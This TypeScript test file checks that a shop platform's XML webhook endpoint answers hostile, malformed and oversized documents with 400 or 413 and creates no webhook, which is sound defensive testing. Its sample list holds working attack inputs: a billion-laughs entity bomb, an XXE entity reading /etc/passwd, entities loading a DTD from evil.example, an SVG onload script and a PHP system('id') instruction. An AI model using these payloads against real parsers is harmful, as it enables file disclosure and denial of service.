import { webhooks } from '@platformapp/shop';
import { SaxesParser } from 'saxes';
import { expect, test } from 'vitest';
import { MAX_XML } from '../webhooks/xml-webhooks.ts';
import { createTestApi } from '../test-support/test-api.ts';

const address = '<address>https://receiver.example/</address>';
const topic = '<topic>orders/create</topic>';
const webhook = (inner: string): string => `<webhook>${inner}${address}${topic}</webhook>`;
const utf16 = (text: string, isBig: boolean): Uint8Array<ArrayBuffer> => {
  const bytes = new Uint8Array(2 + text.length * 2);
  const view = new DataView(bytes.buffer);
  view.setUint16(0, 0xfeff, !isBig);
  for (let index = 0; index < text.length; index += 1) view.setUint16(2 + index * 2, text.charCodeAt(index), !isBig);
  return bytes;
};
const bytes = (...values: readonly number[]): Uint8Array<ArrayBuffer> => Uint8Array.from(values);
const joined = (before: string, middle: Uint8Array, after: string): Uint8Array<ArrayBuffer> => {
  const encoder = new TextEncoder();
  return Uint8Array.from([...encoder.encode(before), ...middle, ...encoder.encode(after)]);
};
const laughs = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join(
  '',
);
const controls = [...Array(32).keys()].filter((code) => code !== 9 && code !== 10 && code !== 13);

type NamedDocument = readonly [name: string, body: string | Uint8Array<ArrayBuffer>];

/**
 * Hostile and broken documents of allowed sizes. Each is answered with 400 and changes nothing.
 */
const HOSTILE_DOCUMENTS: readonly NamedDocument[] = [
  // Document types and entities
  ['a billion laughs', `<!DOCTYPE w [<!ENTITY l0 "ha">${laughs}]><webhook><address>&l9;</address></webhook>`],
  ['one huge entity many times', `<!DOCTYPE w [<!ENTITY a "${'x'.repeat(10_000)}">]>${webhook('&a;'.repeat(5_000))}`],
  ['an external entity', `<!DOCTYPE w [<!ENTITY f SYSTEM "file:///etc/passwd">]>${webhook('&f;')}`],
  ['a parameter entity', `<!DOCTYPE w [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>${webhook('')}`],
  ['an external subset', `<!DOCTYPE webhook SYSTEM "http://evil.example/x.dtd">${webhook('')}`],
  ['a document type alone', `<!DOCTYPE webhook>${webhook('')}`],
  ['a document type after the root', `${webhook('')}<!DOCTYPE a>`],
  ['an entity declaration in the root', webhook('<!ENTITY x "y">')],
  ['a default attribute', `<!DOCTYPE w [<!ATTLIST address nil CDATA "true">]>${webhook('')}`],
  ['a conditional section', webhook('<![INCLUDE[<a/>]]>')],
  ['an unknown entity', webhook('&nbsp;')],
  ['an entity without its semicolon', webhook('&amp')],
  ['a bare ampersand', webhook('a & b')],
  ['an empty reference', webhook('&;')],
  ['a reference to nothing', webhook('&#0;')],
  ['a reference to a control character', webhook('&#1;')],
  ['a reference to half a character', webhook('&#xD83D;')],
  ['a reference to no character', webhook('&#xFFFF;')],
  ['a reference beyond Unicode', webhook('&#x110000;')],
  ['an entity in an attribute', '<webhook a="&x;"/>'],
  // Nesting and roots
  ['nothing', ''],
  ['blanks', ' \n\t '],
  ['text alone', 'webhook'],
  ['a declaration alone', '<?xml version="1.0"?>'],
  ['two roots', webhook('') + webhook('')],
  ['text after the root', `${webhook('')}x`],
  ['a reference after the root', `${webhook('')}&#65;`],
  ['an end tag after the root', `${webhook('')}</webhook>`],
  ['crossed tags', `<webhook><address><topic></address></topic></webhook>`],
  ['another end tag', `<webhook>${address}${topic}</webhooks>`],
  ['an end tag in other letters', `<webhook>${address}${topic}</WEBHOOK>`],
  ['no end tag', `<webhook>${address}${topic}`],
  ['an end tag with an attribute', `<webhook>${address}${topic}</webhook a="b">`],
  ['an element within the address', `<webhook><address>https://a.example/<b/></address>${topic}</webhook>`],
  ['the address twice', webhook(address)],
  ['the topic twice', webhook(topic)],
  ['another root', `<product>${address}${topic}</product>`],
  ['a list', `<webhooks type="array">${webhook('')}</webhooks>`],
  ['the root with a prefix', `<w:webhook xmlns:w="w">${address}${topic}</w:webhook>`],
  ['SVG', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ['JSON', '{"webhook":{"topic":"orders/create","address":"https://a.example/"}}'],
  // Tags and names
  ['an unfinished tag', '<webhook'],
  ['an unfinished end tag', '<webhook></webhook'],
  ['a name that begins with a digit', webhook('<1a/>')],
  ['a slash before the name', webhook('</a/>')],
  ['an open tag within a tag', webhook('<a <b>/>')],
  // Attributes
  ['an attribute twice', '<webhook a="1" a="2"/>'],
  ['an attribute without a value', '<webhook nil/>'],
  ['an attribute without quotes', '<webhook nil=true/>'],
  ['an attribute with a tag in it', '<webhook a="<b>"/>'],
  ['attributes without a space between', '<webhook a="1"b="2"/>'],
  ['3,000 attributes', `<webhook ${Array.from({ length: 3_000 }, (_, number) => `a${number}="x"`).join(' ')}/>`],
  // Comments, CDATA and instructions
  ['an unfinished comment', webhook('<!-- x')],
  ['two hyphens in a comment', webhook('<!-- a -- b -->')],
  ['a comment in a tag', '<webhook <!-- x --> />'],
  ['an unfinished CDATA section', webhook('<![CDATA[ x')],
  ['a CDATA section in small letters', webhook('<![cdata[x]]>')],
  ['the end of a CDATA section in text', webhook(']]>')],
  ['a CDATA section within another', webhook('<![CDATA[<![CDATA[x]]>]]>')],
  ['an instruction', webhook('<?php system("id"); ?>')],
  ['a declaration in the middle', webhook('<?xml version="1.0"?>')],
  ['a declaration without a version', `<?xml encoding="UTF-8"?>${webhook('')}`],
  ['a declaration of version 1.1', `<?xml version="1.1"?>${webhook('')}`],
  ['a declaration in the wrong order', `<?xml encoding="UTF-8" version="1.0"?>${webhook('')}`],
  ['an unfinished declaration', `<?xml version="1.0"${webhook('')}`],
  // Size
  ['10,000 levels', '<a>'.repeat(10_000) + '</a>'.repeat(10_000)],
  ['100 levels in a webhook', webhook('<a>'.repeat(100) + '</a>'.repeat(100))],
  ['30,000 elements', `<webhook>${'<a/>'.repeat(30_000)}</webhook>`],
  ['an eighth of a megabyte of ampersands', webhook('&'.repeat(120_000))],
  ['20,000 good references', webhook('&amp;'.repeat(20_000))],
  ['an eighth of a megabyte of open tags', '<'.repeat(120_000)],
  ['an eighth of a megabyte of open comments', '<!--'.repeat(30_000)],
  ['an eighth of a megabyte of open CDATA sections', webhook('<![CDATA['.repeat(13_000))],
  ['an eighth of a megabyte of brackets', webhook(`<![CDATA[${']'.repeat(120_000)}`)],
  ['an eighth of a megabyte of hyphens', webhook(`<!--${'-'.repeat(120_000)}`)],
  // Encodings
  ['UTF-16 with the low byte first', utf16(webhook(''), false)],
  ['UTF-16 with the high byte first', utf16(webhook(''), true)],
  ['Latin-1 by its declaration', `<?xml version="1.0" encoding="ISO-8859-1"?>${webhook('')}`],
  ['UTF-16 by its declaration', `<?xml version="1.0" encoding="UTF-16"?>${webhook('')}`],
  ['an encoding that is none', `<?xml version="1.0" encoding="klingon"?>${webhook('')}`],
  ['a byte that UTF-8 never has', joined('<webhook>', bytes(0xff), '</webhook>')],
  ['half a surrogate pair', joined('<webhook>', bytes(0xed, 0xa0, 0xbd), '</webhook>')],
  ['a cut off character', joined('<webhook>', bytes(0xe6, 0x97), '</webhook>')],
  ['random bytes', Uint8Array.from({ length: 500 }, (_, index) => (index * 197 + 31) % 256)],
  ['a no-character', webhook('\uFFFE')],
  // Control characters
  ...controls.map((code) => [`the control character ${code}`, webhook(String.fromCodePoint(code))] as const),
];

/** Documents above the allowed size. Each is answered with 413 and changes nothing. */
const OVERSIZED_DOCUMENTS: readonly NamedDocument[] = [
  ['a megabyte of text', webhook('x'.repeat(1_000_000))],
  ['a megabyte of blanks', `${' '.repeat(1_000_000)}${webhook('')}`],
  ['a megabyte of one name', `<${'a'.repeat(1_000_000)}/>`],
  ['a megabyte in one attribute', `<webhook a="${'x'.repeat(1_000_000)}"/>`],
];

const many = (count: number, text: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => text(index)).join('');

/** Documents of about the allowed size, each meant to keep a reader busy. */
const LARGE_DOCUMENTS: readonly (readonly [name: string, document: string])[] = [
  ['elements', `<webhook>${'<a/>'.repeat(32_000)}</webhook>`],
  ['as many elements as are read', `<webhook>${'<a/>'.repeat(490)}</webhook>`],
  ['long names', `<webhook>${`<${'日'.repeat(60)}/>`.repeat(490)}</webhook>`],
  ['attributes', `<webhook ${many(12_000, (index) => `a${index}="x" `)}/>`],
  ['as many attributes as are read', `<webhook ${many(480, (index) => `a${index}="x" `)}/>`],
  ['one long attribute', `<webhook a="${'x'.repeat(130_000)}"/>`],
  ['blanks in tags', `<webhook>${`<a ${' '.repeat(4_000)}/>`.repeat(8)}</webhook>`],
  ['one tag without an end', `<webhook ${'a="x" '.repeat(21_000)}`],
  ['quotes', `<webhook a=${'"'.repeat(130_000)}`],
  ['equals signs', `<webhook ${'='.repeat(130_000)}/>`],
  ['open attributes', '<a b="'.repeat(21_000)],
  ['references', `<webhook>${'&amp;'.repeat(26_000)}</webhook>`],
  ['as many references as are read', `<webhook>${`&#${'0'.repeat(56)}65;`.repeat(2_000)}</webhook>`],
  ['a long reference', `<webhook>&#x${'0'.repeat(130_000)}41;</webhook>`],
  ['a reference without an end', `<webhook>&#x${'0'.repeat(130_000)}</webhook>`],
  ['text', `<webhook>${'x'.repeat(130_000)}</webhook>`],
  ['line breaks', `<webhook>${'\r\n'.repeat(65_000)}</webhook>`],
  ['text and elements', `<webhook>${`${'x'.repeat(520)}<a/>`.repeat(240)}</webhook>`],
  ['CDATA sections', `<webhook>${'<![CDATA[]]>'.repeat(10_000)}</webhook>`],
  ['as many CDATA sections as are read', `<webhook>${`<![CDATA[${'x'.repeat(250)}]]>`.repeat(490)}</webhook>`],
  ['brackets in a CDATA section', `<webhook><![CDATA[${']'.repeat(130_000)}]]></webhook>`],
  ['open CDATA sections', `<webhook>${'<![CDATA['.repeat(14_000)}`],
  ['hyphens in a comment', `<webhook><!--${'- '.repeat(65_000)}--></webhook>`],
  ['open comments', '<!--'.repeat(32_000)],
  ['open tags', '<'.repeat(130_000)],
  ['levels', '<a>'.repeat(18_000) + '</a>'.repeat(18_000)],
  ['as many levels as are read', `${`<${'a'.repeat(480)}>`.repeat(31)}${`</${'a'.repeat(480)}>`.repeat(31)}`],
  ['blanks in a declaration', `<?xml version="1.0"${' '.repeat(130_000)}`],
];

test.each([
  ...HOSTILE_DOCUMENTS.map(([name, body]) => [name, 400, body] as const),
  ...OVERSIZED_DOCUMENTS.map(([name, body]) => [name, 413, body] as const),
])('answers %s with %i in XML and changes nothing', async (_, status, body) => {
  const { send, shop } = createTestApi();

  const response = await send('/admin/webhooks.xml', {
    method: 'POST',
    body,
    headers: { 'content-type': 'application/xml' },
  });
  const text = await response.text();
  let isWellFormed = true;
  const parser = new SaxesParser();
  parser.on('error', () => {
    isWellFormed = false;
  });
  parser.write(text).close();

  expect(response.status).toBe(status);
  expect(text).toMatch(/<errors><error>.+<\/error>/);
  expect(isWellFormed).toBe(true);
  expect(shop.count(webhooks)).toBe(0);
});

test.each(LARGE_DOCUMENTS)('answers %s of the largest size', async (_, document) => {
  const { send } = createTestApi();

  const { status } = await send('/admin/webhooks.xml', {
    method: 'POST',
    body: document.slice(0, MAX_XML),
    headers: { 'content-type': 'application/xml' },
  });

  expect(status).toBeOneOf([400, 413, 422]);
});
